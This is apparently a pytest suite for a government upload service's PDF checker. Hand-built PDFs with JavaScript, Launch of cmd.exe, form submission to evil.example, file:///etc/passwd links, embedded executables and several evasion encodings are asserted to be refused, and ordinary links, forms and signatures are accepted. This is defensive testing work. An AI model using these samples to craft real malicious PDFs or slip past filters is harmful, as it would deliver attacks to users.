"""Which PDFs are refused for what they do, and which are taken: two tables by hand, each case in several spellings.

A link that a reader clicks is taken: every scanned letter and every page that was saved as PDF has some, and nothing
happens until somebody follows it. The same address in an action that runs by itself is refused.
"""

import io
import warnings
import zlib

import pypdf
import pytest
from pypdf.generic import ArrayObject, DecodedStreamObject, DictionaryObject, NameObject, NumberObject, TextStringObject

from api.files.check import Unfit, examine
from tests.files.papers import locked_pdf, packed_pdf, pdf
from tests.files.test_uploads import upload

LINK = b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (%s) >> >>"
XML_FILE = b"<< /Type /EmbeddedFile /Length 33 >>\nstream\n<?xml version='1.0'?><invoice/>  \nendstream"
NO_XML_FILE = b"<< /Type /EmbeddedFile /Length 4 >>\nstream\nMZ\x90\x00\nendstream"


def opening(action: bytes, *more: bytes) -> bytes:
    """A PDF whose catalogue names this as what is done on opening; further objects have numbers from 6 on."""
    return pdf([action, *more], catalogue=b"/OpenAction 5 0 R ")


def of(*objects: bytes) -> bytes:
    """A PDF with these further objects, from number 5 on."""
    return pdf(list(objects))


def replaced(hostile: bytes) -> bytes:
    """Object 5 was `hostile` and is nothing since the file was changed (ISO 32000-1 §7.5.6)."""
    first = pdf([hostile], catalogue=b"/Extra 5 0 R ")
    return added(first, b"null")


def added(first: bytes, fifth: bytes) -> bytes:
    """A file with an incremental update that writes object 5 anew."""
    before = first.rindex(b"startxref") + 10
    previous = int(first[before:].split()[0])
    out = first + b"5 0 obj\n" + fifth + b"\nendobj\n"
    table = b"xref\n5 1\n%010d 00000 n \ntrailer\n<< /Size 6 /Root 1 0 R /Prev %d >>\n" % (len(first), previous)
    return out + table + b"startxref\n%d\n%%%%EOF\n" % len(out)


def unlisted(hostile: bytes) -> bytes:
    """An object between the others that no table lists."""
    sound = pdf()
    at = sound.index(b"xref\n0")
    extra = b"77 0 obj\n" + hostile + b"\nendobj\n"
    start = sound.rindex(b"startxref\n") + 10
    return sound[:at] + extra + sound[at:start] + b"%d\n%%%%EOF\n" % (at + len(extra))


def hexadecimal(inner: bytes) -> bytes:
    """An object stream under two filters, the outer one hexadecimal."""
    heads = b"9 0 "
    packed = zlib.compress(heads + inner).hex().encode() + b">"
    head = b"<< /Type /ObjStm /N 1 /First %d /Filter [/ASCIIHexDecode /FlateDecode] /Length %d >>\nstream\n"
    return of(head % (len(heads), len(packed)) + packed + b"\nendstream")


ACTIONS = {
    "a script": b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>",
    "a program": b"<< /S /Launch /F (cmd.exe) >>",
    "a form sent away": b"<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>",
    "data fetched": b"<< /S /ImportData /F (\\\\\\\\evil.example\\\\share\\\\x.fdf) >>",
    "another file": b"<< /S /GoToR /F (other.pdf) /D [0 /Fit] >>",
    "an embedded file": b"<< /S /GoToE /D [0 /Fit] /T << /R /C /N (a.pdf) >> >>",
    "a film": b"<< /S /Rendition /OP 0 >>",
    "rich media": b"<< /S /RichMediaExecute >>",
}
"""Actions that are refused wherever they stand."""

HOSTILE = {
    "an address opened by itself": opening(b"<< /S /URI /URI (https://evil.example/) >>"),
    "an address opened after another action": opening(
        b"<< /S /GoTo /D [4 0 R /Fit] /Next 6 0 R >>", b"<< /S /URI /URI (http://evil.example) >>"
    ),
    "an address opened with a page": of(b"<< /AA << /O << /S /URI /URI (https://evil.example/) >> >> >>"),
    "an address opened with a field": of(
        b"<< /FT /Tx /T (x) /AA 6 0 R >>", b"<< /Fo 7 0 R >>", b"<< /S /URI /URI (x) >>"
    ),
    "an action nobody knows": opening(b"<< /S /DoWhatIWant >>"),
    "a menu command": opening(b"<< /S /Named /N /SaveAs >>"),
    "a link to a file": of(LINK % b"file:///etc/passwd"),
    "a link to a share": of(LINK % b"\\\\\\\\evil.example\\\\share"),
    "a link to a script": of(LINK % b"java\\nscript:alert(1)"),
    "a link without a scheme of its own": of(LINK % b"//evil.example/x"),
    "a base for all links": pdf(catalogue=b"/URI << /Base (file:///) >> "),
    "a link whose action lies elsewhere": of(b"<< /Subtype /Link /A 6 0 R >>", b"<< /S /Thread /F (x.pdf) >>"),
    "a button that sends": of(b"<< /Subtype /Widget /FT /Btn /A << /S /SubmitForm /F (https://evil.example) >> >>"),
    "an XFA form": pdf([b"<< /XFA 3 0 R >>"], catalogue=b"/AcroForm 5 0 R "),
    "an attachment": of(b"<< /Type /Filespec /F (a.exe) /EF << /F 3 0 R >> >>"),
    "an attachment without a name": of(b"<< /Type /Filespec /EF << /F 3 0 R >> >>"),
    "an attachment that lies about its name": of(b"<< /Type /Filespec /F (a.xml) /EF << /F 6 0 R >> >>", NO_XML_FILE),
    "an attachment with two names": of(b"<< /Type /Filespec /F (a.xml) /UF (a.exe) /EF << /F 6 0 R >> >>", XML_FILE),
    "an attachment in a name tree": pdf(
        [
            b"<< /Kids [6 0 R] >>",
            b"<< /Kids [7 0 R] >>",
            b"<< /Names [(a) 8 0 R] >>",
            b"<< /F (a.pdf) /EF << /F 3 0 R >> >>",
        ],
        catalogue=b"/Names << /EmbeddedFiles 5 0 R >> ",
    ),
    "a script in a name tree": pdf(
        [b"<< /Kids [6 0 R] >>", b"<< /Names [(a) 7 0 R] >>", b"<< /S /J#61vaScript /J#53 3 0 R >>"],
        catalogue=b"/Names << /JavaScript 5 0 R >> ",
    ),
    "a name by reference": of(b"<< /S 6 0 R >>", b"/SubmitForm"),
    "rich media on a page": of(b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>"),
    "a film on a page": of(b"<< /Type /Annot /Subtype /Movie /Rect [0 0 9 9] /Movie << /F (x.avi) >> >>"),
    "a model on a page": of(b"<< /Type /Annot /Subtype /3D /Rect [0 0 9 9] >>"),
    "a sound on a page": of(b"<< /Type /Annot /Subtype /Sound /Rect [0 0 9 9] >>"),
    "content in another file": of(b"<< /Length 0 /F (\\\\\\\\evil\\\\x) >>\nstream\n\nendstream"),
    "a page of another file": of(b"<< /Type /XObject /Subtype /Form /Ref << /F (x.pdf) /Page 0 >> >>"),
    "a file that is fetched": of(b"<< /Type /Filespec /FS /URL /F (https://evil.example/x) >>"),
}
"""Refused as `active_pdf`."""

HARMLESS = {
    "a scanned letter": pdf(pages=3, payload=bytes(range(256)) * 20),
    "a letter with a link": of(LINK % b"https://www.xincheng.gov.cn/"),
    "links to a page, by mail, by telephone": of(
        LINK % b"HTTP://a.example", LINK % b"mailto:a@b.cn", LINK % b"tel:02912345"
    ),
    "links without a scheme": of(LINK % b"www.example.cn/a?b=c", LINK % b"www.example.cn:8080/a", LINK % b"page2"),
    "a link within": of(b"<< /Subtype /Link /A << /S /GoTo /D [4 0 R /Fit] >> >>"),
    "a link whose action lies elsewhere": of(
        b"<< /Subtype /Link /A 6 0 R >>", b"<< /S /URI /URI (https://a.example) >>"
    ),
    "buttons to turn the page, to empty the form": of(
        b"<< /A << /S /Named /N /NextPage >> >>", b"<< /Subtype /Widget /A << /S /ResetForm >> >>"
    ),
    "opens at a page": pdf(catalogue=b"/OpenAction [4 0 R /FitH 842] "),
    "opens at a page by an action": opening(b"<< /S /GoTo /D [4 0 R /Fit] >>"),
    "prints itself": opening(b"<< /S /Named /N /Print >>"),
    "a form that is filled in": pdf(
        [b"<< /Fields [6 0 R] /DA (/Helv 0 Tf) >>", b"<< /FT /Tx /T (a) /V (b) >>"], catalogue=b"/AcroForm 5 0 R "
    ),
    "a signature": of(
        b"<< /FT /Sig /T (s) /V 6 0 R >>",
        b"<< /Type /Sig /Filter /Adobe.PPKLite /ByteRange [0 1 2 3] /Contents <00> >>",
    ),
    "an invoice with its figures": of(b"<< /Type /Filespec /F (i.xml) /UF (i.xml) /EF << /F 6 0 R >> >>", XML_FILE),
    "tags of a text": of(
        b"<< /Type /StructElem /S /Link /P 4 0 R /A << /O /Layout /Placement /Block >> >>", b"<< /S /Transparency >>"
    ),
    "numbers of pages, and a frame": of(b"<< /Nums [0 << /S /D >>] >>", b"<< /BS << /S /S /W 1 >> >>"),
    "changed since": added(pdf([b"<< /Title (a) >>"]), b"<< /Title (b) >>"),
    "a box from the other corner": pdf().replace(b"[0 0 595 842]", b"[595 842 0 0]"),
    "a box from the upper left": pdf().replace(b"[0 0 595 842]", b"[0 842 595 0]"),
    "a box that lies elsewhere": pdf([b"[0.0 841.89 595.28 0]"]).replace(b"[0 0 595 842]", b"5 0 R        "),
    "a box of the tree": pdf(catalogue=b"").replace(b"/MediaBox [0 0 595 842]", b" " * 23),
    "a box below zero": pdf().replace(b"[0 0 595 842]", b"[-9 -9 9 9]  "),
}
"""Taken as they are."""


def answer(data: bytes) -> str:
    """`taken`, or the code of the refusal."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        try:
            examine(data)
        except Unfit as unfit:
            return unfit.code
    return "taken"


@pytest.mark.parametrize("name", HOSTILE)
def test_what_acts_is_refused(name: str) -> None:
    assert answer(HOSTILE[name]) == "active_pdf"


@pytest.mark.parametrize("name", HARMLESS)
def test_what_does_nothing_by_itself_is_taken(name: str) -> None:
    assert answer(HARMLESS[name]) == "taken"


@pytest.mark.parametrize("name", ACTIONS)
def test_an_action_is_refused_wherever_it_stands(name: str) -> None:
    action = ACTIONS[name]
    escaped = action.replace(b"/S /", b"/#53 /#", 1)
    at = escaped.index(b"/#53 /#") + 7
    escaped = escaped[:at] + b"%02x" % escaped[at] + escaped[at + 1 :]
    places = {
        "opening": opening(action),
        "a link": of(b"<< /Subtype /Link /A %s >>" % action),
        "a page's trigger": of(b"<< /AA << /C %s >> >>" % action),
        "after another": of(b"<< /A << /S /GoTo /D [4 0 R /Fit] /Next [%s] >> >>" % action),
        "deep in arrays": of(b"[[[<< /Any [%s] >>]]]" % action),
        "an object stream": packed_pdf(action),
        "an object stream in hexadecimal": hexadecimal(action),
        "an update": added(pdf([b"null"]), action),
        "what an update replaced": replaced(action),
        "no table": unlisted(action),
        "escaped": of(escaped),
    }
    assert {place: answer(data) for place, data in places.items()} == dict.fromkeys(places, "active_pdf")


@pytest.mark.parametrize("algorithm", ["RC4-128", "AES-256"])
def test_what_is_encrypted_is_refused_unread(algorithm: str) -> None:
    assert answer(locked_pdf("", algorithm)) == "locked_pdf"


def test_what_a_library_writes_is_read_alike() -> None:
    """pypdf writes attachments into a name tree, and a script into the catalogue."""
    attached, script, filled = pypdf.PdfWriter(), pypdf.PdfWriter(), pypdf.PdfWriter()
    for writer in (attached, script, filled):
        writer.add_blank_page(595, 842)
    attached.add_attachment("程序.exe", b"MZ")
    action = {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")}
    script.root_object[NameObject("/OpenAction")] = script._add_object(DictionaryObject(action))
    link = DictionaryObject(
        {
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (0, 0, 9, 9)]),
            NameObject("/A"): DictionaryObject(
                {NameObject("/S"): NameObject("/URI"), NameObject("/URI"): TextStringObject("https://市.example/")}
            ),
        }
    )
    filled.pages[0][NameObject("/Annots")] = ArrayObject([filled._add_object(link)])
    filled.pages[0][NameObject("/Contents")] = filled._add_object(DecodedStreamObject())
    outputs = [io.BytesIO() for _ in range(3)]
    for writer, out in zip((attached, script, filled), outputs, strict=True):
        writer.write(out)
    assert [answer(out.getvalue()) for out in outputs] == ["active_pdf", "active_pdf", "taken"]


def test_a_citizen_is_told_what_to_do_instead(citizen, drain) -> None:
    sent = upload(citizen, HOSTILE["a button that sends"], "申请表.pdf")
    taken = upload(citizen, HARMLESS["a box from the other corner"], "扫描件.pdf")
    drain()
    refused = citizen.get(f"/v1/uploads/{sent}")
    assert (refused["state"], refused["code"]) == ("refused", "active_pdf")
    assert "打印为 PDF" in refused["why"]
    assert citizen.get(f"/v1/uploads/{taken}")["state"] == "accepted"
